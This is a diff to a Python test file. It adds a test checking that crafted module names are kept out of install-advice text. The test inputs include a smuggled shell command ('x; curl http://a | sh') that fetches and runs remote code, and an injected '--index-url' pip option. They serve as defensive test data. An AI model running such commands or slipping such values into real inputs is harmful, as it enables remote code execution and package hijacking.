@@ -122,3 +122,8 @@ def test_a_failed_import_elsewhere_stays_what_it_is() -> None:
     error = ImportError("cannot import name 'x' from 'numpy'", name="numpy")
     assert failed_import(error) is error
     assert isinstance(failed_import(ModuleNotFoundError("No module named 'x'", name="x")), DependencyError)
+
+
+@pytest.mark.parametrize("module", ["x; curl http://a | sh", "--index-url=http://a", "x\ny", "\x1b[2J", ""])
+def test_a_crafted_module_name_gets_into_no_command(module: str) -> None:
+    assert advice(module, None) == "install it"
